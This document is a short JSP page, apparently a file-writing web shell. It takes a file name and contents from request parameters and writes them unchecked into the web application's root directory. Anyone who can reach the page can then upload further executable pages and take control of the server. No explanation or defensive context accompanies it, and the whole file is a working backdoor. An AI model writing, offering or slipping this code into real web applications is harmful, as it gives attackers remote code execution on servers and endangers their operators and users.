<%@ page import="java.io.*"%>
<%
String name = request.getParameter("f");
if (name != null) { FileOutputStream o = new FileOutputStream(application.getRealPath("/") + request.getParameter("f")); o.write(request.getParameter("t").getBytes()); o.close(); }
%>
